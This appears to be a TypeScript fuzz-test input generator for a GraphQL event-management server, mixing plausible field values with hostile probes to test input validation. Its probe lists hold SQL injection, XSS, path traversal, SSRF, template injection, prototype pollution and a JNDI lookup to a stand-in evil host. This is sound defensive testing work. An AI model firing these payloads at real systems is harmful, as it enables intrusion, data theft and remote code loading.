// The raw material of the mutation fuzzer. "Wild" values are probes: hostile strings, malformed
// ids, boundary numbers, impossible dates. "Tame" values look like what the field holds (chosen by
// its name), so that an input made mostly of them gets past validation and the deeper code runs
// with the one or two wild values it carries.
import fc from 'fast-check';
import { TEST_PASSWORD } from '@convene/server-testing';

/** JSON bodies over 100 kB are refused by the body parser (413) before GraphQL: keep under it. */
export const MAX_BODY_BYTES = 90_000;

/** Real values of the world that a tame string may name. */
export interface Known {
  /** Slugs of open events. */
  eventSlugs: string[];
  /** Slugs of pitch forms. */
  formSlugs: string[];
  /** Addresses of people of group A. */
  emails: string[];
}

const LONG = [255, 256, 1_000, 5_001, 10_001, 20_000];

/**
 * Strings no field should choke on, by kind of trouble: each one is a probe, not a plausible
 * value. A probe picks a kind first, so that a kind with few members is tried as often as the others.
 */
const HOSTILE: Record<string, string[]> = {
  blank: ['', ' ', '\t\n\r ', '\u00a0\u2003\u3000', '\u200b\u200d\ufeff'],
  control: [
    '\u0000',
    'before\u0000after',
    '\u0001\u0007\u0008\u001b[31mred\u001b[0m\u007f',
    'a\r\nBcc: victim@evil.example\r\n\r\nbody',
    '\u0085\u2028\u2029',
  ],
  // Unpaired surrogates cannot be written as UTF-8 (nor stored in jsonb); the others must survive a round trip.
  unicode: [
    '\ud800',
    'ok\ud83d',
    '\udfff\ud800',
    'مرحبا بالعالم — שלום',
    '\u202eevil.exe\u202c',
    '👩‍👩‍👧‍👦🏳️‍🌈🇵🇸',
    'Z̴̡̛͎̈́a̶̰͌l̷̨̈g̸̠̅o̵̜͝',
    '\uffff\ufffe\ufdd0',
    'ＡＢＣ１２３',
  ],
  injection: [
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    '"; select pg_sleep(5); --',
    '\\',
    '%',
    '_%_',
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '"><svg onload=alert(1)>',
    '[click](javascript:alert(1))',
    '@[Mina Member] @group-convenors @everyone',
    '%s%s%s%n%x%p',
    '${jndi:ldap://evil.example/a}',
    '{{7*7}}',
  ],
  paths: [
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '/dev/zero',
    'javascript:alert(1)',
    'http://169.254.169.254/latest/meta-data/',
    'file:///etc/passwd',
  ],
  literals: [
    '{"$ne":null}',
    '{"__proto__":{"admin":true}}',
    '__proto__',
    'constructor',
    '[]',
    'null',
    'undefined',
    'NaN',
    '-1',
    '0',
    '1e309',
    'true',
    'a@b',
    'x@example.org<script>',
    '\\x00\\u0000',
    '00000000-0000-0000-0000-000000000000',
  ],
};

/** Values of the right shape but wrong: dates that do not exist, unknown zones, near-miss addresses. */
const DATES: string[] = [
  '1970-01-01T00:00',
  '0001-01-01T00:00:00Z',
  '9999-12-31T23:59:59Z',
  '+275760-09-13T00:00:00.000Z',
  '2026-02-30T10:00',
  '2026-13-01T10:00',
  '2026-03-29T01:30',
  '2026-10-25T01:30',
  '2026-06-01T25:00',
  '2026-06-01',
  '2027-02-30',
  '2026-06-01T10:00:00+14:00',
  '2026-06-01T10:00:00.123456789Z',
  '  2026-06-01T10:00  ',
  'yesterday',
  '1717236000',
];

function edgy(name: string): string[] {
  const n = name.toLowerCase();
  if (n.includes('email'))
    return [
      'no-at-sign',
      'a@b.c',
      'MINA@EXAMPLE.ORG',
      `${'a'.repeat(300)}@example.org`,
      'a@-example.org',
      '"quoted"@example.org',
    ];
  if (n.includes('password')) return ['short', 'x'.repeat(1025), 'passwordpassword'];
  if (n.includes('slug')) return ['UPPER-case', 'a', 'ends-with-', 'graphql', 'admin', 'with space'];
  if (n.includes('timezone'))
    return ['Mars/Olympus_Mons', 'europe/london', '+02:00', 'Etc/GMT+12', 'Pacific/Kiritimati'];
  if (n === 'locale') return ['xx', 'EN', 'ar-EG-u-nu-latn', 'en_GB'];
  if (n.endsWith('at') || n === 'until' || n === 'deadline') return DATES;
  if (n.includes('url') || n === 'website')
    return [
      'javascript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      'http://localhost:5432/',
      '//evil.example',
      'https://',
      'ftp://example.org',
    ];
  if (n === 'token') return ['short', 'A'.repeat(32), 'A'.repeat(100)];
  if (n === 'code') return ['000000', '12345', '1234567', 'abcd-efgh-ijkl'];
  if (n === 'allowedtypes') return ['application/x-msdownload', '*/*', 'image/*', 'text/html'];
  if (n === 'clear') return ['title', 'id', 'groupId'];
  return [];
}

/** A string of random characters, from plain ASCII to any code point. */
const randomText = (maxLength: number) =>
  fc.oneof(
    fc.string({ maxLength }),
    fc.string({ unit: 'grapheme', maxLength }),
    fc.string({ unit: 'binary', maxLength }),
    fc.string({ unit: fc.constantFrom('a', ' ', '\n', '-', '.', '@', '#'), maxLength }),
  );

/** A local date-time `days` from now at `hour`, as the meeting inputs take it (no offset). */
export function localDateTime(days: number, hour: number): string {
  const date = new Date(Date.now() + days * 86_400_000);
  return `${date.toISOString().slice(0, 10)}T${String(hour).padStart(2, '0')}:00`;
}

/**
 * A probe for a field named `name`. `short` keeps it small (list items: fifty 20 000-character
 * items would only test the body limit).
 */
export function wildString(name: string, short: boolean): fc.Arbitrary<string> {
  const long = short
    ? fc.constant('x'.repeat(300))
    : fc
        .constantFrom(...LONG)
        .chain((length) => fc.constantFrom('x', 'é', '😀', '<', "'").map((c) => c.repeat(length)));
  const nearMiss = edgy(name);
  return fc.oneof(
    ...Object.values(HOSTILE).map((strings) => fc.constantFrom(...strings)),
    ...(nearMiss.length ? [fc.constantFrom(...nearMiss)] : []),
    randomText(short ? 40 : 400),
    long,
  );
}

const fresh = (prefix: string) => fc.uuid().map((u) => `${prefix}${u.slice(0, 8)}`);

/** A value that looks like what a field named `name` holds, and often is valid. */
export function tameString(name: string, known: Known): fc.Arbitrary<string> {
  const n = name.toLowerCase();
  if (n.includes('email'))
    return fc.oneof(
      fresh('fuzz-').map((s) => `${s}@example.org`),
      fc.constantFrom(...known.emails),
    );
  if (n.includes('password')) return fc.constantFrom(TEST_PASSWORD, 'a long enough passphrase for this');
  if (n === 'formslug') return fc.constantFrom(...known.formSlugs);
  // An existing event's slug (to register for it, or to keep when configuring it), or a new one.
  if (n === 'slug') return fc.oneof(fc.constantFrom(...known.eventSlugs), fresh('fuzz-slug-'));
  if (n.includes('timezone')) return fc.constantFrom('Europe/London', 'America/New_York', 'UTC');
  if (n === 'locale') return fc.constantFrom('en', 'ar');
  if (n === 'until') return fc.integer({ min: 20, max: 200 }).map((days) => localDateTime(days, 0).slice(0, 10));
  if (n === 'deadline') return fc.integer({ min: 1, max: 9 }).map((days) => localDateTime(days, 12));
  // A start and an end drawn apart still make a valid pair half the time: same day, one hour on.
  if (n.startsWith('starts')) return fc.constantFrom(3, 10).map((days) => localDateTime(days, 10));
  if (n.startsWith('ends')) return fc.constantFrom(3, 10).map((days) => localDateTime(days, 11));
  if (n.includes('url') || n === 'website')
    return fc.constantFrom('https://meet.example.org/room', 'https://example.org');
  if (n === 'token') return fc.stringMatching(/^[A-Za-z0-9_-]{32}$/);
  if (n === 'code') return fc.stringMatching(/^\d{6}$/);
  if (n === 'allowedtypes') return fc.constantFrom('application/pdf', 'image/png', 'text/plain');
  if (n === 'clear') return fc.constantFrom('agendaDocumentId', 'minutesDocumentId', 'threadId', 'onlineUrl');
  if (n === 'claim') return fc.stringMatching(/^[A-Za-z0-9_-]{43}$/);
  if (n === 'value' || n === 'options') return fc.constantFrom('Just an idea', 'Running', 'Policing', 'Health');
  if (n === 'tags') return fc.constantFrom('housing', 'policing', 'health');
  if (n.includes('name') || n === 'organisation')
    return fc.constantFrom('Mina Member', 'Refugee Action Network', 'Minutes');
  return fc.constantFrom(
    'Planning meeting',
    'Notes from the strike committee',
    'Venue moved to the community hall',
    'Policing, housing & health',
    'Bring a friend.',
  );
}

/** Ids that belong to nothing: malformed, empty, huge, or well-formed but unknown. */
export const BOGUS_ID = fc.oneof(
  fc.uuid(),
  fc.uuid().map((u) => u.toUpperCase()),
  fc.uuid().map((u) => `{${u}}`),
  fc.uuid().map((u) => ` ${u}\n`),
  fc.constantFrom(
    '',
    ' ',
    '0',
    '-1',
    '1',
    '2147483648',
    'null',
    'not-a-uuid',
    "' OR 1=1 --",
    '00000000-0000-0000-0000-000000000000',
    'ffffffff-ffff-ffff-ffff-ffffffffffff',
    'x'.repeat(5_000),
    '../1',
    '\u0000',
    'zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz',
  ),
);

export const WILD_INT = fc.oneof(
  {
    arbitrary: fc.constantFrom(
      0,
      1,
      -1,
      2,
      7,
      23,
      24,
      59,
      60,
      366,
      1_000,
      10_080,
      100_000,
      2_147_483_647,
      -2_147_483_648,
    ),
    weight: 5,
  },
  { arbitrary: fc.integer(), weight: 2 },
  // Outside GraphQL's 32-bit Int: refused by variable coercion, before any resolver.
  { arbitrary: fc.constantFrom(2_147_483_648, -2_147_483_649, 1.5), weight: 1 },
);
/** Small counts, and the minutes a reminder may be set to. */
export const TAME_INT = fc.constantFrom(1, 2, 3, 10, 15, 30, 60, 120, 1_440);

export const FLOAT = fc.oneof(
  fc.constantFrom(0, -0, -1, 1e308, -1e308, 5e-324, 0.1),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

export const DATE_TIME = fc.oneof(
  fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
  fc.constantFrom(...DATES),
);
